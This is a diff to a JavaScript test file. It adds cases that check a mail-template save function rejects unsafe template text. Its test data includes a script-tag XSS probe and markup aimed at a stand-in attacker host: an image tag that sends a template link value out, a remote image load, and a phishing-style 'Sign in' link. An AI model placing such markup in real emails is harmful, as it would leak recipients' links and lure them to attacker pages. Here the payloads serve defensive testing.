@@ -70,6 +70,9 @@ describe('save-mail-template', () => {
     ['knows no such name', '{{ salary }}'],
     ['holds a script', '<script>alert(1)</script>'],
     ['is empty', ' '],
+    ['sends a link to another host', '<img src="https://evil.example/p?{{ link }}">'],
+    ['loads from another host', '<img src="https://evil.example/p"> {{ link }}'],
+    ['leads to another host', '<a href="https://evil.example">Sign in</a>'],
   ])('refuses a text that %s, whatever the screen had said', async (_, text) => {
     const version = await versionNow();
     const answer = await save({ version, body: { en: '<p>Fine</p>', sv: text } });
